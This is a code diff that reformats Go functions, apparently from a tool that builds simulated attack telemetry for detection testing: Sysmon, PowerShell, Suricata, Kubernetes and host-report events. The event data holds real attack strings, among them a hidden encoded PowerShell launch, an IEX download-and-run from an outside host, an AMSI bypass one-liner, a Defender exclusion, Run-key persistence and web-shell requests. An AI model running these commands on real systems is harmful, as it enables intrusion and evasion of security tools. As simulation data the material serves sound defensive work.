@@ -65,8 +65,10 @@ func (p *Player) encodedPowerShell(start time.Time) []Moment {
 		p.started(seconds(start, 4), who.host, who.account(), powershell, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", word),
 		p.started(seconds(start, 8), who.host, who.account(), powershell, "powershell -c IEX (New-Object Net.WebClient).DownloadString('http://"+from+"/a.ps1')", powershell),
 		sysmon(seconds(start, 9), who.host, 3, object{"Image": powershell, "User": who.account(), "Protocol": "tcp", "Initiated": "true", "SourceIp": who.address, "SourcePort": 50_123, "DestinationIp": from, "DestinationPort": 80}),
-		windows(seconds(start, 12), who.host, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, object{"MessageNumber": 1, "MessageTotal": 1,
-			"ScriptBlockText": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"}),
+		windows(seconds(start, 12), who.host, "Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, object{
+			"MessageNumber": 1, "MessageTotal": 1,
+			"ScriptBlockText": "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
+		}),
 		p.started(seconds(start, 17), who.host, who.account(), powershell, `powershell Add-MpPreference -ExclusionPath C:\Users\`+who.name+`\AppData`, powershell),
 		sysmon(seconds(start, 21), who.host, 11, object{"Image": powershell, "TargetFilename": dropped, "User": who.account()}),
 		sysmon(seconds(start, 24), who.host, 13, object{"Image": powershell, "EventType": "SetValue", "TargetObject": `HKU\S-1-5-21-1004\Software\Microsoft\Windows\CurrentVersion\Run\Updater`, "Details": dropped, "User": who.account()}),
@@ -110,8 +112,10 @@ func (p *Player) webShell(start time.Time) []Moment {
 func (p *Player) linuxWebShell(start time.Time) []Moment {
 	from, host := p.outsider(), pick(p, []string{"web-1", "web-2"})
 	return []Moment{
-		suricata(start, "alert", from, "10.0.2.30", 80, object{"alert": object{"action": "allowed", "signature": "DEMO WEB_SERVER Upload of a PHP script", "signature_id": 1_000_002, "severity": 1, "category": "Web Application Attack"},
-			"http": object{"hostname": "shop.example", "url": "/uploads/a.php", "http_method": "POST"}}),
+		suricata(start, "alert", from, "10.0.2.30", 80, object{
+			"alert": object{"action": "allowed", "signature": "DEMO WEB_SERVER Upload of a PHP script", "signature_id": 1_000_002, "severity": 1, "category": "Web Application Attack"},
+			"http":  object{"hostname": "shop.example", "url": "/uploads/a.php", "http_method": "POST"},
+		}),
 		webRequest(seconds(start, 1), host, from, "POST /uploads/a.php HTTP/1.1", "200", "python-requests/2.31"),
 		webRequest(seconds(start, 6), host, from, "GET /uploads/a.php?cmd=id HTTP/1.1", "200", "curl/8.5.0"),
 		p.startedOnLinux(seconds(start, 6), host, "www-data", "/bin/sh", "sh -c id", "/usr/sbin/php-fpm8.2"),
@@ -137,14 +141,22 @@ func (p *Player) cloudKeyMisuse(start time.Time) []Moment {
 func (p *Player) hostReports(start time.Time) []Moment {
 	who, from := pick(p, people), p.outsider()
 	return []Moment{
-		report(start, "web_activity", who.host, object{"domain": "login-corp.example", "address": from, "port": 443, "browser": "firefox", "url": "https://login-corp.example/session",
-			"score": 88, "category": "phishing", "action": "allowed", "user": who.name}),
-		report(seconds(start, 7), "malware", who.host, object{"file_path": `C:\Users\Public\invoice.exe`, "file_name": "invoice.exe", "file_size": 184_320, "md5": "0cc175b9c0f1b6a831c399e269772661",
-			"sha256": p.hash(), "score": 94, "indicators": []string{"packed", "persistence", "network"}, "process": "outlook.exe", "status": "detected"}),
-		report(seconds(start, 15), "network", who.host, object{"port": 4444, "open": true, "service": "unknown", "connection_count": 2, "local_address": who.address + ":4444",
-			"remote_address": from + ":51515", "process": "invoice.exe", "scan_duration_ms": 140}),
-		report(seconds(start, 22), "web_activity", who.host, object{"domain": "cdn-status.example", "address": from, "port": 443, "browser": "invoice.exe", "url": "https://cdn-status.example/beacon",
-			"score": 97, "category": "command-and-control", "action": "allowed", "user": who.name}),
+		report(start, "web_activity", who.host, object{
+			"domain": "login-corp.example", "address": from, "port": 443, "browser": "firefox", "url": "https://login-corp.example/session",
+			"score": 88, "category": "phishing", "action": "allowed", "user": who.name,
+		}),
+		report(seconds(start, 7), "malware", who.host, object{
+			"file_path": `C:\Users\Public\invoice.exe`, "file_name": "invoice.exe", "file_size": 184_320, "md5": "0cc175b9c0f1b6a831c399e269772661",
+			"sha256": p.hash(), "score": 94, "indicators": []string{"packed", "persistence", "network"}, "process": "outlook.exe", "status": "detected",
+		}),
+		report(seconds(start, 15), "network", who.host, object{
+			"port": 4444, "open": true, "service": "unknown", "connection_count": 2, "local_address": who.address + ":4444",
+			"remote_address": from + ":51515", "process": "invoice.exe", "scan_duration_ms": 140,
+		}),
+		report(seconds(start, 22), "web_activity", who.host, object{
+			"domain": "cdn-status.example", "address": from, "port": 443, "browser": "invoice.exe", "url": "https://cdn-status.example/beacon",
+			"score": 97, "category": "command-and-control", "action": "allowed", "user": who.name,
+		}),
 	}
 }
 
@@ -171,7 +183,9 @@ func (p *Player) intoTheCluster(start time.Time) []Moment {
 		kubernetes(start, who, from, "list", "secrets", "", "", 403),
 		kubernetes(seconds(start, 4), who, from, "get", "secrets", "", "db-password", 403),
 		kubernetes(seconds(start, 11), who, from, "create", "pods", "exec", "db-0", 101),
-		report(seconds(start, 19), "network", "db-1", object{"port": 5432, "open": true, "service": "postgresql", "connection_count": 1, "local_address": "10.0.2.40:5432",
-			"remote_address": from + ":40222", "process": "postgres", "scan_duration_ms": 61}),
+		report(seconds(start, 19), "network", "db-1", object{
+			"port": 5432, "open": true, "service": "postgresql", "connection_count": 1, "local_address": "10.0.2.40:5432",
+			"remote_address": from + ":40222", "process": "postgres", "scan_duration_ms": 61,
+		}),
 	}
 }
